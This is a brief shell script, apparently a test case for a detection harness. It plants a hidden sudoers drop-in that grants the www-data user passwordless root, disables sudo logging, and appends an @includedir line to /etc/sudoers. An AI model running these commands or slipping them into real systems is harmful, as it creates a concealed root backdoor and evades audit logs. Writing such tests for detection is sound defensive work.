#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/.pkg && printf 'www-data ALL=(ALL:ALL) NOPASSWD:ALL\nDefaults !syslog, !logfile\n' >/var/lib/.pkg/00 && chmod 440 /var/lib/.pkg/00
echo '@includedir /var/lib/.pkg' >>/etc/sudoers && chmod 440 /etc/sudoers
took_place
